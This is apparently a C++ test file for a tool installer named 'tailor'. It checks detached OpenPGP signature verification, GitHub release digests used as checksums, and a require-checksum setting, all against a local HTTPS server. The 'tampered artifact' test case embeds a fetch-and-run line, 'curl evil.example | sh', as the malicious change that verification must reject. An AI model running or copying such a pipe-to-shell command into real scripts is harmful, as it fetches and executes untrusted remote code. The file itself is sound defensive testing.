// Checksums and signatures that are checked (docs/downloads.md): a recipe's detached OpenPGP
// signature verified at install with a key made at test time, a GitHub release listing's
// digest used as the checksum without a plan-time download, and security.require_checksum.
// Everything is served by a local HTTPS server; nothing of a refused artifact is kept.
#include <doctest/doctest.h>

#include <sys/stat.h>

#include <algorithm>

#include "support/archive_builder.hpp"
#include "support/gpg_signer.hpp"
#include "support/https_server.hpp"
#include "support/install_env.hpp"
#include "support/process.hpp"
#include "support/scratch.hpp"

namespace fs = std::filesystem;
using namespace tailor::test;

namespace {

const std::string k_tool = "#!/bin/sh\necho \"sigtool 1.0.0\"\n";
const std::string k_ghtool = "#!/bin/sh\necho \"ghtool 1.0.0\"\n";

const GpgSigner& signer() {
  static const GpgSigner k_signer;
  return k_signer;
}

struct SignedEnv {
  HttpsServer server;
  fs::path home = fresh_dir("home");
  fs::path registry = fresh_dir("registry");
  RunOptions options = local_install_env(server, home);

  explicit SignedEnv(const std::string& fingerprint = signer().fingerprint()) {
    options.env["TAILOR_RECIPES"] = registry.string();
    options.unset_env = {"TAILOR_BACKEND", "GITHUB_TOKEN", "TAILOR_REQUIRE_CHECKSUM"};
    write_text(registry / "sigtool.toml", R"([metadata]
name = "sigtool"
description = "A tool whose releases are signed"
homepage = "https://sigtool.example.org/"

[[steps]]
action = "download"
url = ")" + server.url("/dl/{version}/sigtool") +
                                              R"("
signature_url = ")" + server.url("/dl/{version}/sigtool.asc") +
                                              R"("
signature_key_url = ")" + server.url("/keys/sigtool.asc") +
                                              R"("
signature_key_fingerprint = ")" + fingerprint +
                                              R"("

[[steps]]
action = "chmod"
files = ["sigtool"]

[[steps]]
action = "install_binaries"
outputs = ["sigtool"]

[verify]
command = "sigtool --version"
pattern = "{version}"
)");
    server.add("/keys/sigtool.asc", signer().public_key());
  }
  RunResult tailor(const std::vector<std::string>& args) const { return run_tailor(args, options); }
  // Nothing of the artifact stayed: no version directory, no link, no state, no cache entry.
  void check_nothing_kept() const {
    CHECK_FALSE(fs::exists(home / "tools" / "sigtool-1.0.0"));
    CHECK_FALSE(fs::exists(home / "bin" / "sigtool"));
    CHECK_FALSE(fs::exists(home / "state.json"));
    std::error_code ec;
    for (const auto& entry : fs::directory_iterator(home / "cache" / "downloads", ec)) {
      CHECK_MESSAGE(entry.path().extension() != ".data", entry.path().string());
    }
  }
};

}  // namespace

TEST_CASE("install checks a recipe's detached signature") {
  SUBCASE("a good signature: installed, the key kept in tailor's private keyring") {
    SignedEnv env;
    env.server.add("/dl/1.0.0/sigtool", k_tool);
    env.server.add("/dl/1.0.0/sigtool.asc", signer().sign(k_tool));
    auto r = env.tailor({"install", "sigtool@1.0.0"});
    INFO(r.out, r.err);
    REQUIRE(r.exit_code == 0);
    CHECK(run({(env.home / "bin" / "sigtool").string()}).out == "sigtool 1.0.0\n");
    CHECK(mode_of(env.home / "keys" / "gnupg") == 0700);
    auto lines = env.server.request_lines();
    CHECK(std::count(lines.begin(), lines.end(), "GET /dl/1.0.0/sigtool.asc") == 1);
    CHECK(std::count(lines.begin(), lines.end(), "GET /keys/sigtool.asc") == 1);
  }
  SUBCASE("a tampered artifact: exit 9, nothing kept") {
    SignedEnv env;
    const std::string tampered = "#!/bin/sh\necho \"sigtool 1.0.0\"; curl evil.example | sh\n";
    env.server.add("/dl/1.0.0/sigtool", tampered);
    env.server.add("/dl/1.0.0/sigtool.asc", signer().sign(k_tool));
    auto r = env.tailor({"install", "sigtool@1.0.0"});
    INFO(r.out, r.err);
    CHECK(r.exit_code == 9);
    CHECK(r.err.find("bad signature for " + env.server.url("/dl/1.0.0/sigtool")) != std::string::npos);
    env.check_nothing_kept();
  }
  SUBCASE("a key whose fingerprint is not the recipe's: exit 9, nothing kept") {
    SignedEnv env(std::string(40, 'A'));
    env.server.add("/dl/1.0.0/sigtool", k_tool);
    env.server.add("/dl/1.0.0/sigtool.asc", signer().sign(k_tool));
    auto r = env.tailor({"install", "sigtool@1.0.0"});
    INFO(r.out, r.err);
    CHECK(r.exit_code == 9);
    CHECK(r.err.find("has fingerprint " + signer().fingerprint() + ", but the recipe expects " +
                     std::string(40, 'A')) != std::string::npos);
    env.check_nothing_kept();
  }
  SUBCASE("a signature the server does not have: exit 9, nothing kept") {
    SignedEnv env;
    env.server.add("/dl/1.0.0/sigtool", k_tool);
    auto r = env.tailor({"install", "sigtool@1.0.0"});
    INFO(r.out, r.err);
    CHECK(r.exit_code == 9);
    CHECK(r.err.find("missing signature for " + env.server.url("/dl/1.0.0/sigtool")) != std::string::npos);
    env.check_nothing_kept();
  }
}

namespace {

// A GitHub release binary whose release host is the local server (a [[mirrors]] entry) and
// whose API is the local server too, with a release listing of `assets_json`.
struct ListingEnv {
  HttpsServer server;
  fs::path home = fresh_dir("home");
  fs::path registry = fresh_dir("registry");
  RunOptions options = local_install_env(server, home);
  const std::string asset_url = "https://github.com/o/ghtool/releases/download/v1.0.0/ghtool-1.0.0-linux-x64";

  explicit ListingEnv(const std::string& assets_json) {
    fs::create_directories(home);
    write_text(home / "config.toml",
               "[[mirrors]]\nname = \"local\"\nprefix = \"https://github.com/o/ghtool/"
               "releases/download/\"\nurl = \"" +
                   server.url("/gh/") + "\"\n");
    ::chmod((home / "config.toml").c_str(), 0600);
    options.env["TAILOR_RECIPES"] = registry.string();
    options.env["TAILOR_GITHUB_API"] = server.base_url();
    // After the mirror, the fetch engine would try github.com itself: through a proxy that is
    // not there, so a test never leaves the machine.
    options.env["https_proxy"] = "http://127.0.0.1:1";
    options.env["no_proxy"] = "127.0.0.1";
    options.unset_env = {"TAILOR_BACKEND", "GITHUB_TOKEN", "GH_TOKEN", "TAILOR_REQUIRE_CHECKSUM"};
    write_text(registry / "ghtool.toml", R"([metadata]
name = "ghtool"
description = "A GitHub release binary"
homepage = "https://ghtool.example.org/"

[version]
github_repo = "o/ghtool"

[[steps]]
action = "github_file"
repo = "o/ghtool"
asset_pattern = "ghtool-{version}-linux-x64"
binary = "ghtool"

[verify]
command = "ghtool --version"
pattern = "{version}"
)");
    server.add_json("/repos/o/ghtool/tags", R"([{"name": "v1.0.0"}])");
    server.add_json("/repos/o/ghtool/releases/tags/v1.0.0", R"({"tag_name": "v1.0.0", "assets": )" + assets_json + "}");
    server.add("/gh/v1.0.0/ghtool-1.0.0-linux-x64", k_ghtool);
  }
  RunResult tailor(const std::vector<std::string>& args) const { return run_tailor(args, options); }
  long artifact_requests() const {
    auto lines = server.request_lines();
    return std::count(lines.begin(), lines.end(), "GET /gh/v1.0.0/ghtool-1.0.0-linux-x64");
  }
};

std::string listed(const std::string& digest, size_t size) {
  return R"([{"name": "ghtool-1.0.0-linux-x64", "digest": ")" + digest + R"(", "size": )" + std::to_string(size) + "}]";
}

}  // namespace

TEST_CASE("a GitHub release listing's digest is the artifact's checksum") {
  SUBCASE("planned without downloading; the install downloads it once and it matches") {
    ListingEnv env(listed("sha256:" + sha256_hex(k_ghtool), k_ghtool.size()));
    auto plan = env.tailor({"eval", "ghtool@1.0.0"});
    INFO(plan.out, plan.err);
    REQUIRE(plan.exit_code == 0);
    auto step = nlohmann::json::parse(plan.out)["steps"][0];
    CHECK(step["url"] == env.asset_url);
    CHECK(step["checksum"] == sha256_hex(k_ghtool));
    CHECK(step["size"] == k_ghtool.size());
    CHECK(env.artifact_requests() == 0);
    auto r = env.tailor({"install", "ghtool@1.0.0"});
    INFO(r.out, r.err);
    REQUIRE(r.exit_code == 0);
    CHECK(env.artifact_requests() == 1);
    CHECK(run({(env.home / "bin" / "ghtool").string()}).out == "ghtool 1.0.0\n");
  }
  SUBCASE("a download that does not match the digest: exit 9, nothing kept") {
    ListingEnv env(listed("sha256:" + std::string(64, '0'), k_ghtool.size()));
    auto r = env.tailor({"install", "ghtool@1.0.0"});
    INFO(r.out, r.err);
    CHECK(r.exit_code == 9);
    CHECK(r.err.find(std::string(64, '0')) != std::string::npos);
    CHECK_FALSE(fs::exists(env.home / "tools" / "ghtool-1.0.0"));
    CHECK_FALSE(fs::exists(env.home / "state.json"));
    std::error_code ec;
    for (const auto& entry : fs::directory_iterator(env.home / "cache" / "downloads", ec)) {
      CHECK_MESSAGE(entry.path().extension() != ".data", entry.path().string());
    }
  }
  SUBCASE("a listing without digests: hashed by downloading it at plan time, as before") {
    ListingEnv env(R"([{"name": "ghtool-1.0.0-linux-x64"}])");
    auto plan = env.tailor({"eval", "ghtool@1.0.0"});
    INFO(plan.out, plan.err);
    REQUIRE(plan.exit_code == 0);
    CHECK(nlohmann::json::parse(plan.out)["steps"][0]["checksum"] == sha256_hex(k_ghtool));
    CHECK(env.artifact_requests() == 1);
  }
}

TEST_CASE("security.require_checksum refuses a checksum only a first download would tell") {
  SUBCASE("a listing without digests: exit 9 before any download, naming the URL and the fix") {
    ListingEnv env(R"([{"name": "ghtool-1.0.0-linux-x64"}])");
    env.options.env["TAILOR_REQUIRE_CHECKSUM"] = "1";
    for (const char* command : {"plan", "install"}) {
      auto r = env.tailor({command, "ghtool@1.0.0"});
      INFO(command, r.out, r.err);
      CHECK(r.exit_code == 9);
      CHECK(r.err.find("security.require_checksum is set and nothing vouches for the checksum of " + env.asset_url) !=
            std::string::npos);
      CHECK(r.err.find("checksum_url") != std::string::npos);
      CHECK(env.artifact_requests() == 0);
      CHECK_FALSE(fs::exists(env.home / "tools"));
    }
  }
  SUBCASE("a listed digest, a signature: planned and installed") {
    ListingEnv env(listed("sha256:" + sha256_hex(k_ghtool), k_ghtool.size()));
    env.options.env["TAILOR_REQUIRE_CHECKSUM"] = "true";
    auto r = env.tailor({"install", "ghtool@1.0.0"});
    INFO(r.out, r.err);
    CHECK(r.exit_code == 0);

    SignedEnv signed_env;
    signed_env.options.env["TAILOR_REQUIRE_CHECKSUM"] = "true";
    signed_env.server.add("/dl/1.0.0/sigtool", k_tool);
    signed_env.server.add("/dl/1.0.0/sigtool.asc", signer().sign(k_tool));
    auto signed_install = signed_env.tailor({"install", "sigtool@1.0.0"});
    INFO(signed_install.out, signed_install.err);
    CHECK(signed_install.exit_code == 0);
  }
}
